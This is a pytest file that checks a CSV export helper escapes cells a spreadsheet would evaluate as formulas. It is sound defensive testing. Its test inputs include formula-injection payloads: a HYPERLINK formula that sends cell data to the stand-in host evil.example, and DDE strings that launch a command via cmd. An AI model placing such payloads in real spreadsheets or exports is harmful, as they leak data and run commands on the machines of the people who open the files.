"""CSV cells cannot become spreadsheet formulas (issue 5): every export writes through
cfsj.lib.csv, which prefixes a ``'`` to a cell a spreadsheet would evaluate."""

import csv
import io

import pytest

from cfsj.lib.csv import safe_cell, write_rows


@pytest.mark.parametrize(
    "dangerous",
    [
        '=HYPERLINK("http://evil.example/?"&A1,"click")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_a_cell_that_a_spreadsheet_would_evaluate_is_made_text(dangerous):
    assert safe_cell(dangerous) == "'" + dangerous


@pytest.mark.parametrize("harmless", ["Maria Santos", "617 555 0142", "O'Brien", "a=b", ""])
def test_ordinary_text_is_left_as_it_is(harmless):
    assert safe_cell(harmless) == harmless


def test_numbers_stay_numbers_and_none_is_an_empty_cell():
    assert safe_cell(-5) == -5
    assert safe_cell(3.5) == 3.5
    assert safe_cell(None) == ""


def test_write_rows_neutralises_the_header_and_every_row():
    out = io.StringIO()
    written = write_rows(out, ["Name", "=Note"], [["=1+1", "fine"], ["@x", None], [-1, "-1"]])
    assert written == 3
    assert list(csv.reader(io.StringIO(out.getvalue()))) == [
        ["Name", "'=Note"],
        ["'=1+1", "fine"],
        ["'@x", ""],
        ["-1", "'-1"],
    ]


def test_write_rows_writes_to_an_http_response():
    from django.http import HttpResponse

    response = HttpResponse(content_type="text/csv")
    write_rows(response, ["Name"], [["+Santos"]])
    assert response.content.decode().splitlines() == ["Name", "'+Santos"]
